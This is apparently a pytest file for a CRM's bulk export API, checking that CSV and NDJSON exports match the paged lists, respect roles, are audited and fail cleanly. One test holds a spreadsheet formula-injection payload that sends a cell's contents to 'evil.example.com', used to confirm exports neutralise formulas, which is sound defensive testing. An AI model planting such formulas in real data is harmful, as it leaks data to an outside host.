"""/api/v1/exports: each list a second time, whole."""

from __future__ import annotations

import asyncio
import csv
import io
import itertools
import json
from collections.abc import Callable, Mapping
from datetime import timedelta
from typing import Any, Final

import httpx
import pytest
from litestar import Litestar
from litestar.exceptions import LitestarException
from structlog.testing import capture_logs

from crm.clock import now
from crm.customers.documents import Customer
from crm.errors import Conflict
from crm.exports.formats import cell
from tests.fixtures import seed
from tests.fixtures.answers import good, pages, refused
from tests.fixtures.rows import (
    activity_row,
    audit_row,
    connection_row,
    connection_secrets_row,
    custom_field_row,
    event_row,
    open_pair_row,
    order_version_row,
    privacy_request_row,
)
from tests.fixtures.store import Store

pytestmark = [pytest.mark.mongo, pytest.mark.goes_around]

Rows = list[dict[str, Any]]
API: Final = "/api/v1"
#: Every list, with what has to be said to get more than a page of it, or as much as there is. A new one needs a row.
LISTS: Final[Mapping[str, dict[str, Any]]] = {
    "/customers": {},
    "/customers/cus_0007/orders": {},
    "/customers/cus_0007/timeline": {},
    "/customers/cus_0007/changes": {},
    "/custom-fields": {},
    "/auth/colleagues": {},
    "/carts": {},
    "/orders": {"status": "paid"},
    "/orders/reconcile": {"source": "shop-1"},
    "/order-changes": {"order_id": "ord_0007"},
    "/products": {},
    "/events": {"customer_id": "cus_0007"},
    "/events/rejects": {},
    "/interactions": {"customer_id": "cus_0007"},
    "/merges": {},
    "/duplicates": {"state": "open"},
    "/connections": {},
    "/inbox": {"state": "dead"},
    "/privacy-requests": {},
    "/erasures": {},
    "/audit": {"action": "customer.list"},
}
STORED: Final[Mapping[str, Callable[[], Rows]]] = {
    "customers": seed.customers,
    "products": seed.products,
    "orders": seed.orders,
    "events": lambda: [event_row(_id=f"evt_{i:04}", identity_id="cus_0007") for i in range(150)],
    "event_rejects": seed.event_rejects,
    "custom_fields": lambda: [custom_field_row(_id=f"field_{i}") for i in range(3)],
    "activities": lambda: [activity_row(_id=f"cus_{i:04}", cart_at=now() - timedelta(minutes=i)) for i in range(150)],
    "interactions": seed.interactions,
    # The service would carry on with those that are due, and change the customers.
    "merges": lambda: [row for row in seed.merges() if "due_at" not in row],
    "duplicate_pairs": lambda: [
        open_pair_row(_id=f"dup_{i:026}", customer_ids=[f"cus_{i % 100:04}", f"cus_{100 + i:04}"], score=i % 50)
        for i in range(150)
    ],
    "inbox": seed.deliveries,
    "connections": lambda: [connection_row(_id=f"con_{i}", name=f"shop-{i}") for i in range(3)],
    "connection_secrets": lambda: [connection_secrets_row(_id=f"con_{i}") for i in range(3)],
    "audit_log": lambda: [audit_row(action="session.sign_in") for _ in range(3)],
    "privacy_requests": lambda: [privacy_request_row() for _ in range(3)],
    "erasures": lambda: [row for row in seed.erasures() if row["state"] == "done"],
    "order_versions": lambda: [order_version_row(_id=f"orv_{i}", order_id="ord_0007", version=i + 1) for i in range(3)],
}


@pytest.fixture
def full(store: Store) -> Store:
    for name, rows in STORED.items():
        store.root[name].insert_many(rows())
    store.root["orders"].update_one({"_id": "ord_0007"}, {"$set": {"version": 4}})
    return store


async def listed(client: httpx.AsyncClient, path: str, **params: Any) -> Rows:
    return [item for page in await pages(client, API + path, limit=200, **params) for item in page]


async def exported(client: httpx.AsyncClient, path: str, **params: Any) -> httpx.Response:
    answer = await client.get(f"{API}/exports{path}", params=params)
    assert answer.status_code == 200, answer.text
    return answer


def lines(answer: httpx.Response) -> Rows:
    return [json.loads(line) for line in answer.text.split("\n")[:-1]]


def table(answer: httpx.Response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(answer.text, newline=""), strict=True))


def flat(item: Mapping[str, Any], columns: list[str]) -> dict[str, str]:
    def at(path: str) -> Any:
        value: Any = item
        for name in path.split("."):
            value = None if value is None else value[name]
        return value

    return {path: cell(at(path)) for path in columns}


@pytest.mark.parametrize("path", LISTS)
async def test_an_export_is_the_whole_list(path: str, full: Store, admin: httpx.AsyncClient) -> None:
    good(await admin.get(f"{API}/customers"))  # the audit log is a list, too
    items = await listed(admin, path, **LISTS[path])
    assert items, "an empty list proves nothing"
    answer = await exported(admin, path, format="ndjson", **LISTS[path])
    assert answer.headers["content-type"] == "application/x-ndjson"
    assert lines(answer) == items
    answer = await exported(admin, path, format="csv", **LISTS[path])
    assert answer.headers["content-type"] == "text/csv; header=present; charset=utf-8"
    assert answer.headers["content-disposition"].endswith('.csv"')
    rows = table(answer)
    assert rows == [flat(item, list(rows[0])) for item in items]


async def test_every_list_has_an_export(anonymous: httpx.AsyncClient) -> None:
    paths = good(await anonymous.get("/api/openapi.json"))["paths"]
    exports = {path.removeprefix(f"{API}/exports") for path in paths if path.startswith(f"{API}/exports/")}
    lists = {
        path.removeprefix(API)
        for path, operations in paths.items()
        if any(p["name"] == "cursor" for p in operations.get("get", {}).get("parameters", ()))
    }
    assert exports == lists == {path.replace("cus_0007", "{customer_id}") for path in LISTS}


async def test_it_is_described(anonymous: httpx.AsyncClient) -> None:
    operation = good(await anonymous.get("/api/openapi.json"))["paths"][f"{API}/exports/customers"]["get"]
    assert operation["operationId"] == "ExportCustomers"
    names = {parameter["name"] for parameter in operation["parameters"]}
    assert names == {
        "format", "byte_order_mark", "sort", "email", "phone", "last_name", "tag", "external_source", "external_id",
    }  # fmt: skip
    content = operation["responses"]["200"]["content"]
    assert content["application/x-ndjson"]["schema"]["contentSchema"] == {"$ref": "#/components/schemas/CustomerOut"}
    assert content["text/csv"]["schema"] == {"type": "string"}


@pytest.mark.parametrize(
    "params", [{"sort": "updated_at"}, {"tag": "all", "sort": "created_at"}, {"last_name": "smith"}]
)
async def test_filters_and_orders_are_those_of_the_list(
    params: dict[str, str], full: Store, sales: httpx.AsyncClient
) -> None:
    items = await listed(sales, "/customers", **params)
    assert len(items) > 30
    assert lines(await exported(sales, "/customers", format="ndjson", **params)) == items


@pytest.mark.parametrize(
    ("path", "params", "field"),
    [
        ("/customers", {"format": "csv", "tag": "a", "sort": "last_name"}, "tag"),
        ("/customers", {"format": "csv", "sort": "email"}, "sort"),
        ("/customers", {"format": "xlsx"}, "format"),
        ("/customers", {"tag": "a"}, "format"),
        ("/interactions", {"format": "csv"}, "sort"),
    ],
)
async def test_what_the_list_refuses_is_refused_before_anything_goes_out(
    path: str, params: dict[str, str], field: str, sales: httpx.AsyncClient
) -> None:
    refused(await sales.get(f"{API}/exports{path}", params=params), 400, "unreadable_request", field)


@pytest.mark.parametrize("name", ["cursor", "limit", "count"])
async def test_there_are_no_pages(name: str, sales: httpx.AsyncClient) -> None:
    answer = await sales.get(f"{API}/exports/customers", params={"format": "csv", name: "1"})
    assert "format" in refused(answer, 400, "unreadable_request")["detail"]


async def test_of_somebody_who_is_not_there(sales: httpx.AsyncClient) -> None:
    refused(await sales.get(f"{API}/exports/customers/cus_0/timeline?format=csv"), 404, "not_found")


async def test_an_empty_table_has_its_header(sales: httpx.AsyncClient) -> None:
    answer = await exported(sales, "/products", format="csv", byte_order_mark="true")
    assert answer.content.startswith(b"\xef\xbb\xbfsku,version,title,")
    assert answer.text.count("\r\n") == 1


async def test_what_an_analyst_gets_has_no_personal_data(full: Store, analyst: httpx.AsyncClient) -> None:
    for path in ("/customers", "/orders"):
        text = (await exported(analyst, path, format="ndjson")).text
        assert text.count("\n") == full.root[path[1:]].count_documents({})
        for word in ("@example.com", "1632", "Smith", "High Street"):
            assert word not in text
    answer = await analyst.get(f"{API}/exports/customers", params={"format": "csv", "email": "customer7@example.com"})
    refused(answer, 403, "forbidden")


async def test_no_cell_is_a_formula(sales: httpx.AsyncClient) -> None:
    evil = '=HYPERLINK("https://evil.example.com?x="&A1)'
    good(await sales.post(f"{API}/customers", json={"first_name": evil, "phone": "+44 1632 960001"}), 201)
    (row,) = table(await exported(sales, "/customers", format="csv"))
    assert (row["first_name"], row["phone"]) == (f"'{evil}", "'+44 1632 960001")


async def test_it_is_recorded(full: Store, sales: httpx.AsyncClient) -> None:
    await exported(sales, "/customers", format="csv", tag="all")
    entries = full.root["audit_log"].find({"action": {"$in": ["export.begin", "export.end"]}}, sort=[("_id", 1)])
    assert [(entry["action"], entry["details"]) for entry in entries] == [
        ("export.begin", {"list": "customers", "format": "csv"}),
        ("export.end", {"list": "customers", "items": seed.CUSTOMERS, "complete": True}),
    ]


async def test_a_failure_in_the_middle_breaks_the_connection_off(
    full: Store, app: Litestar, credentials: Mapping[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    read, calls = Customer.page, itertools.count(1)

    async def once(*given: Any) -> Any:
        if next(calls) > 1:
            raise Conflict("Not now.")
        return await read(*given)

    monkeypatch.setattr(Customer, "page", once)
    messages: list[Any] = []

    async def receive() -> Any:
        if not messages:
            return {"type": "http.request", "body": b"", "more_body": False}
        await asyncio.Event().wait()
        return None

    async def send(message: Any) -> None:
        messages.append(message)

    scope = {
        "type": "http", "method": "GET", "path": f"{API}/exports/customers", "raw_path": b"/api/v1/exports/customers",
        "query_string": b"format=ndjson", "headers": [(b"authorization", f"Bearer {credentials['sales']}".encode())],
        "client": ("127.0.0.1", 1), "server": ("crm.test", 80), "scheme": "http", "http_version": "1.1",
        "root_path": "",
    }  # fmt: skip
    with capture_logs() as logs, pytest.raises(LitestarException):  # the server then closes the connection
        await app(scope, receive, send)  # type: ignore[arg-type]
    assert [message["type"] for message in messages].count("http.response.start") == 1
    assert all(message["more_body"] for message in messages[1:])
    assert sum(message["body"].count(b"\n") for message in messages[1:]) == 100
    entry = full.root["audit_log"].find_one({"action": "export.end"})
    assert entry is not None
    assert entry["details"] == {"list": "customers", "items": 100, "complete": False}
    assert "@example.com" not in repr(logs)
